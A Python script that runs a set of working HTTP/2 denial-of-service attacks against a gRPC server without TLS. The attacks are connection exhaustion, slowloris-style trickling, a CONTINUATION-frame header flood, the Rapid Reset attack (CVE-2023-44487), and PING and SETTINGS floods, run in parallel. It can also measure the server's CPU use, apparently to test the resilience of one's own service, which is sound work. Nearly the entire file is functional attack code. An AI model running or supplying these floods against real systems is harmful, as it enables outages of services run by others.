#!/usr/bin/python3
"""Attacks a gRPC server without TLS in ways that HTTP/2 allows before any call is made, and prints what came of it.

    flood.py ADDRESS [--source IP] [--seconds N] [--pid PID] [--attack NAME[=SIZE]]…

The attacks, each in a process of its own, and their default sizes:

  connections=5000   keeps this many connections open, and opens those again that the server closes
  slow=100           clients that send a request byte by byte
  continuation=1     connections that send a header of 4 MiB in CONTINUATION frames of 1 KiB; each header is a round
  reset=1            connections that begin calls and reset each immediately (CVE-2023-44487); 10,000 calls are a round
  ping=1             connections that send PING frames; 10,000 frames are a round
  settings=1         connections that send SETTINGS frames; 10,000 frames are a round

Without --attack all of them run at the same time. --source is the attacker's address, of this machine. With --pid it
also prints the processor time that the server used. Example:

    flood.py 127.0.0.1:50051 --source 127.0.0.2 --pid "$(pidof identityd)" --attack continuation
"""

import argparse
import collections
import functools
import json
import multiprocessing
import os
import resource
import select
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/identity.v1.IdentityService/CheckPermission"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
CANCEL = 8
HEADER_BYTES = 4 << 20
STREAMS_PER_ROUND = 10_000
SEND_BYTES = 1 << 16


def frame(kind, flags, stream, payload=b""):
    """A frame as RFC 9113, section 4.1 defines it."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A string literal of HPACK that is not compressed: RFC 7541, section 5.2. Up to 126 bytes."""
    return bytes([len(value)]) + value


def call_headers():
    """The header block of a call. Nothing enters the dynamic table, so it is valid for every stream."""
    post, http, path, authority, content_type = b"\x83", b"\x86", b"\x04", b"\x01", b"\x0f\x10"
    return (post + http + path + text(PATH) + authority + text(b"localhost") + content_type
            + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))


def hello():
    return PREFACE + frame(SETTINGS, 0, 0)


def long_integer(value):
    """A length of HPACK with a prefix of 7 bits: RFC 7541, section 5.1."""
    encoded = [127]
    value -= 127
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes([*encoded, value])


def continuation_round(first_stream):
    """One header field that is as long as HEADER_BYTES, in frames of 1 KiB."""
    block = b"\x00" + text(b"x-flood") + long_integer(HEADER_BYTES) + b"a" * HEADER_BYTES
    pieces = [block[i:i + 1024] for i in range(0, len(block), 1024)]
    frames = [frame(HEADERS, 0, first_stream, pieces[0])]
    frames += [frame(CONTINUATION, 0, first_stream, piece) for piece in pieces[1:-1]]
    return b"".join([*frames, frame(CONTINUATION, END_HEADERS, first_stream, pieces[-1])])


def reset_round(first_stream):
    headers = call_headers()
    cancel = struct.pack(">I", CANCEL)
    return b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel)
                    for stream in range(first_stream, first_stream + 2 * STREAMS_PER_ROUND, 2))


def ping_round(_):
    return frame(PING, 0, 0, b"12345678") * STREAMS_PER_ROUND


def settings_round(_):
    return frame(SETTINGS, 0, 0) * STREAMS_PER_ROUND


class Target:
    """Opens connections to the server. They come from the attacker's address."""

    def __init__(self, address, source):
        host, _, port = address.rpartition(":")
        self._address = (host.strip("[]"), int(port))
        self._source = source

    def connect(self, wait=True):
        """A non-blocking connection, or None when the server refuses it. Without `wait` it may not be open yet."""
        family = socket.AF_INET6 if ":" in self._address[0] else socket.AF_INET
        connection = socket.socket(family, socket.SOCK_STREAM)
        try:
            if self._source:
                connection.bind((self._source, 0))
            connection.settimeout(10 if wait else 0)
            connection.connect(self._address)
            connection.setblocking(False)
        except BlockingIOError:
            pass
        except OSError:
            connection.close()
            return None
        return connection


def discard(connection):
    """Reads what has arrived. Returns false when the server has closed the connection."""
    try:
        while connection.recv(1 << 16):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def send_rounds(make_round, target, size, end):
    """Sends rounds on each of `size` connections, and opens those again that the server closes. Returns the counts.
    `make_round` makes the frames of a round from the number of its first stream."""
    context = multiprocessing.get_context("fork")
    queues = [context.SimpleQueue() for _ in range(size)]
    processes = [context.Process(target=_send_on_one, args=(make_round, target, end, queue)) for queue in queues]
    for process in processes:
        process.start()
    total = collections.Counter()
    for queue in queues:
        total.update(queue.get())
    for process in processes:
        process.join()
    return dict(total)


def _send_on_one(make_round, target, end, queue):
    counts = {"connections": 0, "refused": 0, "bytes": 0, "rounds": 0}
    while time.monotonic() < end:
        connection = target.connect()
        if connection is None:
            counts["refused"] += 1
            time.sleep(0.001)
            continue
        counts["connections"] += 1
        with connection:
            first_stream = 1
            alive = _send_round(connection, hello(), end, counts)
            while alive:
                alive = _send_round(connection, make_round(first_stream), end, counts)
                counts["rounds"] += alive
                first_stream += 2 * STREAMS_PER_ROUND
    queue.put(counts)


def _send_round(connection, data, end, counts):
    """Returns whether the server took all of it."""
    view = memoryview(data)
    while view and time.monotonic() < end:
        readable, writable, _ = select.select([connection], [connection], [], 1)
        if readable and not discard(connection):
            return False
        if not writable:
            continue
        try:
            sent = connection.send(view[:SEND_BYTES])
        except OSError:
            return False
        counts["bytes"] += sent
        view = view[sent:]
    return not view


def hold_connections(target, size, end):
    """Connects without speaking."""
    counts = {"connections": 0, "refused": 0, "closed_by_the_server": 0}
    selector = selectors.DefaultSelector()
    while time.monotonic() < end:
        if len(selector.get_map()) < size:
            connection = target.connect(wait=False)
            if connection is None:
                counts["refused"] += 1
            else:
                counts["connections"] += 1
                selector.register(connection, selectors.EVENT_READ)
        full = len(selector.get_map()) >= size
        for key, _ in selector.select(0.01 if full else 0):
            if not discard(key.fileobj):
                counts["closed_by_the_server"] += 1
                selector.unregister(key.fileobj)
                key.fileobj.close()
    counts["open_at_the_end"] = len(selector.get_map())
    return counts


def trickle(target, size, end):
    """Begins a call on each connection, whose message never ends."""
    counts = {"connections": 0, "refused": 0, "bytes": 0}
    message = b"\x00\x00\x00\xff\xff" + b"a" * 60_000  # a message of 65,535 bytes, incomplete
    data = hello() + frame(HEADERS, END_HEADERS, 1, call_headers()) + frame(DATA, 0, 1, message)
    clients = {}  # how many bytes each has sent
    while time.monotonic() < end:
        while len(clients) < size and time.monotonic() < end:
            connection = target.connect()
            if connection is None:
                counts["refused"] += 1
                break
            counts["connections"] += 1
            clients[connection] = 0
        for connection, sent in list(clients.items()):
            clients[connection] = sent + 1
            try:
                alive = connection.send(data[sent:sent + 1]) == 1 and discard(connection)
            except OSError:
                alive = False
            counts["bytes"] += 1
            if not alive or sent + 1 == len(data):
                connection.close()
                del clients[connection]
        time.sleep(0.01)
    return counts


ATTACKS = {
    "connections": (5000, hold_connections),
    "slow": (100, trickle),
    "continuation": (1, functools.partial(send_rounds, continuation_round)),
    "reset": (1, functools.partial(send_rounds, reset_round)),
    "ping": (1, functools.partial(send_rounds, ping_round)),
    "settings": (1, functools.partial(send_rounds, settings_round)),
}


def attack_option(option):
    """NAME or NAME=SIZE as (name, size)."""
    name, _, size = option.partition("=")
    if name not in ATTACKS or (size and not size.isdigit()):
        raise argparse.ArgumentTypeError(f"no such attack: {option}")
    return name, int(size or ATTACKS[name][0])


def run_attack(name, size, target, end, results):
    results.put((name, {"size": size, **ATTACKS[name][1](target, size, end)}))


def processor_seconds(pid):
    """User and system time of a process: proc(5)."""
    with open(f"/proc/{pid}/stat", encoding="ascii") as file:
        fields = file.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def attack(target, attacks, seconds, pid):
    """Runs the attacks at the same time. Returns their counts by name."""
    context = multiprocessing.get_context("fork")
    results = context.Queue()
    before = processor_seconds(pid) if pid else 0
    start = time.monotonic()
    processes = [context.Process(target=run_attack, args=(name, size, target, start + seconds, results))
                 for name, size in attacks]
    for process in processes:
        process.start()
    report = dict(results.get() for _ in processes)
    for process in processes:
        process.join()
    report["seconds"] = round(time.monotonic() - start, 2)
    if pid:
        report["server_processor_seconds"] = round(processor_seconds(pid) - before, 2)
    return report


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address", metavar="ADDRESS", help="IP:PORT of the server")
    parser.add_argument("--source", default="", help="IP address of the attacker")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--pid", type=int, help="process of the server")
    parser.add_argument("--attack", action="append", type=attack_option, metavar="NAME[=SIZE]")
    arguments = parser.parse_args()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacks = arguments.attack or [(name, size) for name, (size, _) in ATTACKS.items()]
    report = attack(Target(arguments.address, arguments.source), attacks, arguments.seconds, arguments.pid)
    json.dump(report, sys.stdout, indent=2)
    print()


if __name__ == "__main__":
    main()
